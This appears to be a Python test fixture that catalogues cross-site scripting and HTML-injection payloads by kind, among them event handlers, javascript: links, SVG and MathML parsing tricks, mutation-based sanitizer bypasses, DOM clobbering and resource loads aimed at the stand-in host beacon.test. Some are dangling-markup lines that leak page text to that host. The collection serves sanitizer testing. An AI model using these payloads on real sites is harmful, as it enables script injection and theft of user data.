"""Attacks on whoever shows a record as HTML, by kind. What runs calls hit(); what loads something asks
the host beacon.test. Each kind is seen to succeed on the bare text (test_control)."""

HIT = "hit(1)"
B = "http://beacon.test"
TAB, LF, NUL, SOH = "\t", "\n", "\0", "\1"

# Places where HTML may stand. Kinds whose attacks need a click are judged by the links' schemes.
HTML = {
    "event handlers": [
        f"<img src=x onerror={HIT}>", f"<img/src=x/onerror={HIT}>", f"<IMG SRC=x ONERROR='{HIT}'>",
        f"<img src=x\nonerror\n=\n{HIT}>", f"<img src=x onerror=\"{HIT}\" onerror=x>",
        f"<img src='x'onerror='{HIT}'>", f"<img src=x onerror=&#104;it(1)>", f"<img src=x onerror=hit&lpar;1&rpar;>",
        f"<p title='\"><img src=x onerror={HIT}>'>a</p><img src=x onerror={HIT}>", f"<body onload={HIT}>a",
        f"<div onanimationstart={HIT} style='animation: k 1s'>a</div><style>@keyframes k{{}}</style>",
        f"<audio src=x onerror={HIT}></audio>", f"<video><source onerror={HIT}></video>",
        f"<video src=x onerror={HIT}></video>", f"<input autofocus onfocus={HIT}>",
        f"<a href=/x tabindex=0 autofocus onfocus={HIT}>a</a>", f"<img src=x onerror={HIT}//", f"<img src=x onload=x onerror='{HIT}'",
        f"<img src=x oneonerrorrror={HIT} onerror={HIT}>", f"<x onpointerrawupdate={HIT} contenteditable>a</x>",
    ],
    "scripts": [
        f"<script>{HIT}</script>", f"<ScRiPt/x>{HIT}</sCrIpT >", f"<script\n>{HIT}</script\n>", f"<script src={B}/a.js></script>",
        f"<<script>{HIT}//<</script>", f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"<script>{HIT}", f"<script type=module>{HIT}</script>",
        f"<script/src='data:,{HIT}'></script>", f"<script>/*</p>*/{HIT}</script>",
        f"<![CDATA[<script>{HIT}</script>]]>", f"<script x='>'>{HIT}</script>",
    ],
    "links": [
        f"<a href=javascript:{HIT}>a</a>", f"<a href=' javascript:{HIT}'>a</a>", f"<a href='{SOH}javascript:{HIT}'>a</a>",
        f"<a href='java{TAB}script:{HIT}'>a</a>", f"<a href='java{LF}script:{HIT}'>a</a>", f"<a href='jav&#x09;ascript:{HIT}'>a</a>",
        f"<a href='jav&Tab;ascript&colon;{HIT}'>a</a>", f"<a href='&#106avascript:{HIT}'>a</a>", f"<a href='&#0000106;avascript:{HIT}'>a</a>",
        f"<a href='JaVaScRiPt:{HIT}'>a</a>", f"<a href='javascript&#58;{HIT}'>a</a>", f"<a href='javascript&NewLine;:{HIT}'>a</a>",
        f"<a href='\\u006aavascript:{HIT}'>a</a><a href=javascript:{HIT}>b</a>", f"<a href=\"x\" href=\"javascript:{HIT}\">a</a><a href=\"javascript:{HIT}\" href=x>b</a>",
        f"<a href='data:text/html,<script>{HIT}</script>'>a</a>", f"<a href='data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4='>a</a>",
        "<a href='blob:http://x.test/1'>a</a>", "<a href='vbscript:x'>a</a>", "<a href='file:///etc/passwd'>a</a>", "<a href='view-source:http://x.test/'>a</a>",
        f"<a href='javascript://x.test/%0a{HIT}'>a</a>", f"<area href='javascript:{HIT}'>", f"<map name=m><area href='javascript:{HIT}'></map><img usemap=#m src=x>",
        f"<form action='javascript:{HIT}'><button>a</button></form>", f"<form><button formaction='javascript:{HIT}'>a</button></form>",
        f"<a xlink:href='javascript:{HIT}' href='javascript:{HIT}'>a</a>", f"<svg><a xlink:href='javascript:{HIT}'><text y=9>a</text></a></svg>",
        f"<blockquote cite='javascript:{HIT}'>a</blockquote><a href='javascript:{HIT}'>a</a>",
        f"<base href='javascript:{HIT}//'><a href='/x'>a</a>",
    ],
    "other namespaces": [
        f"<svg onload={HIT}>", f"<svg><script>{HIT}</script></svg>", f"<svg><script>hit&#40;1)</script></svg>", f"<svg/onload={HIT}//",
        f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", f"<svg><set onbegin={HIT} attributeName=x>",
        f"<svg><style><img src=x onerror={HIT}></style></svg>", f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
        f"<svg><desc><img src=x onerror={HIT}></desc></svg>", f"<svg><title><img src=x onerror={HIT}></title></svg>",
        f"<svg><image href=x onerror={HIT}></svg>", f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={HIT}></annotation-xml></math>",
        f"<math><mi><img src=x onerror={HIT}></mi></math>", f"<svg><p><style><!--</style><img src=x onerror={HIT}>-->",
        f"<math><style><img src=x onerror={HIT}></style></math>",
    ],
    "read otherwise the second time": [
        f"<noscript><p title=\"</noscript><img src=x onerror={HIT}>\"></noscript>", f"<noscript>&lt;/noscript&gt;&lt;img src=x onerror={HIT}&gt;</noscript>",
        f"<p><noscript>a&lt;/noscript&gt;&lt;script&gt;{HIT}&lt;/script&gt;&lt;img src=x onerror={HIT}&gt;",
        f"<noscript><!--</noscript><img src=x onerror={HIT}>--></noscript>",
        f"<noscript><style></noscript><img src=x onerror={HIT}></style>", f"<noembed><p title=\"</noembed><img src=x onerror={HIT}>\">",
        f"<noframes><p title=\"</noframes><img src=x onerror={HIT}>\">", f"<textarea><p title=\"</textarea><img src=x onerror={HIT}>\">",
        f"<title><p title=\"</title><img src=x onerror={HIT}>\">", f"<style><p title=\"</style><img src=x onerror={HIT}>\">",
        f"<xmp><p title=\"</xmp><img src=x onerror={HIT}>\">", f"<iframe><p title=\"</iframe><img src=x onerror={HIT}>\">",
        f"<plaintext><img src=x onerror={HIT}>", f"<template><img src=x onerror={HIT}></template>",
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={HIT}&gt;\">",
        f"<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror={HIT}\">",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={HIT}>",
        f"<svg></p><style><a id=\"</style><img src=x onerror={HIT}>\">", f"<select><noscript><p title=\"</noscript></select><img src=x onerror={HIT}>\">",
        f"<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={HIT}>\">",
        f"<table><td><style><p title=\"</style></table><img src=x onerror={HIT}>\">", f"<p><svg><style><a title=\"</style><img src=x onerror={HIT}>\">",
        f"<math><mi><style><img title=\"</style><img src=x onerror={HIT}>\">", f"<svg><desc><noscript><p title=\"</noscript><img src=x onerror={HIT}>\">",
        f"<listing>&lt;img src=x onerror={HIT}&gt;</listing><pre>&lt;img src=1&gt;</pre><img src=x onerror={HIT}>",
        f"<img alt=\"``onerror={HIT} src=x\"><img src=x onerror={HIT}>", f"<a title='&lt;/a&gt;&lt;img src=x onerror={HIT}&gt;'>a</a><img src=x onerror={HIT}>",
        f"<div><template shadowrootmode=open><img src=x onerror={HIT}></template></div>",
    ],
    "comments and the like": [
        f"<!--><img src=x onerror={HIT}>-->", f"<!---><img src=x onerror={HIT}>-->", f"<!-- --!><img src=x onerror={HIT}>-->",
        f"<!-- <!-- --><img src=x onerror={HIT}>-->", f"<!x><img src=x onerror={HIT}>", f"<?xml ?><img src=x onerror={HIT}>",
        f"</ x><img src=x onerror={HIT}>", f"<![CDATA[><img src=x onerror={HIT}>]]>", f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={HIT}>'>]><img src=x onerror={HIT}>",
        f"<!--a--\t><img src=x onerror={HIT}>--><img src=x onerror={HIT}>",
    ],
    "signs": [
        f"<img src=x one{NUL}rror={HIT}><img src=x onerror={HIT}>", f"<scr{NUL}ipt>{HIT}</script><script>{HIT}</script>", f"<img src=x \u00a0onerror={HIT}><img src=x onerror={HIT}>",
        f"<img src=`x`onerror={HIT}><img src=x onerror={HIT}>", f"<img src=\"x` `<script>{HIT}</script>\"` `><script>{HIT}</script>",
        f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-<script>{HIT}</script>", f"\u02bascript\u02ba <img src=x onerror={HIT}>",
        f"&lt;script&gt;{HIT}&lt;/script&gt;<script>{HIT}</script>", f"&amp;lt;img src=x onerror={HIT}&amp;gt;<img src=x onerror={HIT}>",
        f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e<script>{HIT}</script>", f"<img src=x onerror\u000b={HIT}><img src=x onerror={HIT}>", f"<img\fsrc=x\fonerror={HIT}>",
    ],
    "loading": [
        f"<link rel=stylesheet href={B}/a.css>", f"<link rel=prefetch href={B}/p>", f"<link rel=preload as=image href={B}/p>", f"<link rel='preconnect stylesheet' href={B}/c>",
        f"<style>@import '{B}/i.css';</style>", f"<style>body{{background:url({B}/b)}}</style>", f"<div style='background:url({B}/s)'>a</div>",
        f"<div style=\"background:u\\rl('{B}/s')\">a</div><div style='background:url({B}/s)'>a</div>", f"<div style='background-image:image-set(\"{B}/is\" 1x)'>a</div>",
        f"<div style='list-style:url({B}/l) inside;display:list-item'>a</div>", f"<div style='--x:url({B}/v);background:var(--x)'>a</div>",
        f"<div style='content:url({B}/c)'>a</div>", f"<p style='cursor:url({B}/cur),auto;border-image:url({B}/bi)'>a</p>",
        f"<iframe src={B}/f></iframe>", f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>", f"<iframe src='javascript:parent.{HIT}'></iframe>",
        f"<iframe src='data:text/html,<img src={B}/d>'></iframe>", f"<object data={B}/o></object>", f"<embed src={B}/e>", f"<object type=text/html data='data:text/html,<img src={B}/od>'></object>",
        f"<meta http-equiv=refresh content='0;url={B}/m'><link rel=stylesheet href={B}/m.css>", f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'><script>{HIT}</script>",
        f"<base href={B}/><img src=base.png><script src=base.js></script>", f"<applet code={B}/a.class></applet><embed src={B}/e>", f"<frameset><frame src={B}/fr></frameset><iframe src={B}/fr></iframe>",
        f"<input type=image src={B}/in>", f"<svg><image href={B}/si /></svg>", f"<svg><use href='{B}/u.svg#x'/></svg>", f"<svg><filter><feImage href={B}/fe /></filter></svg><svg><image href={B}/si /></svg>",
        f"<portal src={B}/po></portal><iframe src={B}/po></iframe>", f"<fencedframe src={B}/ff></fencedframe><iframe src={B}/ff></iframe>",
f"<style>@import url({B}/dangling?", f"<div title='<style>@import url({B}/dangling?",
        f"<iframe src='{B}/dangling?<p>secret</p>", f"<math href={B}/mh>a</math><iframe src={B}/mh></iframe>",
        f"<a ping={B}/ping href=http://x.test/>a</a><iframe src={B}/x></iframe>", f"<table background='javascript:{HIT}'><tr><td>a</table><script>{HIT}</script>",
        f"<html manifest={B}/mf><iframe src={B}/mf></iframe>", f"<video poster='data:image/svg+xml,<svg onload={HIT}>'></video><iframe src={B}/v></iframe>",
        f"<script type=speculationrules>{{\"prefetch\":[{{\"source\":\"list\",\"urls\":[\"{B}/sr\"]}}]}}</script><link rel=stylesheet href={B}/sr>",
        f"<script type=importmap>{{\"imports\":{{\"a\":\"{B}/im.js\"}}}}</script><script type=module>import 'a';{HIT}</script>",
    ],
    "sources": [
        f"<img srcset='x 1x, javascript:{HIT} 2x' onerror={HIT}>", f"<img srcset=',,x,y 2x\"onerror={HIT} ' onerror={HIT}>",
        f"<picture><source srcset='data:image/svg+xml,<svg onload={HIT}> 1x'><img src=x onerror={HIT}></picture>",
        f"<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{HIT}\"/>' onload={HIT}>", f"<img srcset='x' sizes='\"><script>{HIT}</script>' onerror={HIT}>",
    ],
    "toggles": [
        f"<details open ontoggle={HIT}>a</details>", f"<marquee onstart={HIT}>a</marquee>", f"<details open><summary>a</summary><img src=x onerror={HIT}></details>",
        f"<dialog open onclose=x><img src=x onerror={HIT}></dialog>", f"<div popover id=pop ontoggle={HIT}>a</div><img src=x onerror={HIT}>", f"<input type=hidden oncontentvisibilityautostatechange={HIT} style=content-visibility:auto><img src=x onerror={HIT}>",
    ],
    # The page's own names: taken, unless the second member is.
    "clobbering": [
        "<img name=getElementById>", "<img name=createElement src=x>", "<form name=querySelector></form>", "<iframe name=addEventListener></iframe>",
        "<img id=body name=body>", "<object name=cookie></object>", "<embed name=location>", "<form id=courant><input name=attributes></form>",
        "<a id=courant></a><a id=courant name=url href='http://beacon.test/'></a>", "<img id=courant name=courant>", "<div id=courant>a</div>",
        "<p><a name=courant>a</a></p>", "<table id=courant><tr><td>a</table>", "<form id=courant><output name=y>a</output><fieldset name=children></fieldset></form>",
        "<button form=courant name=x id=courant>a</button>", "<meter id=courant></meter>", "<map id=courant name=courant></map>", "<label for=x id=courant>a</label>",
    ],
}

# Places where an address stands.
ADDRESSES = [
    f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f" javascript:{HIT}", f"java\tscript:{HIT}", f"java\nscript:{HIT}", f"javascript://x.test/%0a{HIT}",
    f"data:text/html,<script>{HIT}</script>", "vbscript:x", "file:///etc/passwd", "blob:http://x.test/1", f"\"><img src=x onerror={HIT}>",
    f"http://x.test/\"onerror=\"{HIT}", f"http://x.test/'><script>{HIT}</script>", f"//x.test/\\\"><script>{HIT}</script>", f"http://x.test/#</script><script>{HIT}</script>",
    f"feed:javascript:{HIT}", f"view-source:javascript:{HIT}", f"&#106;avascript:{HIT}", f"jar:javascript:{HIT}!/",
]


def all_html():
    """(kind, HTML) of each."""
    return [(kind, text) for kind, texts in HTML.items() for text in texts]
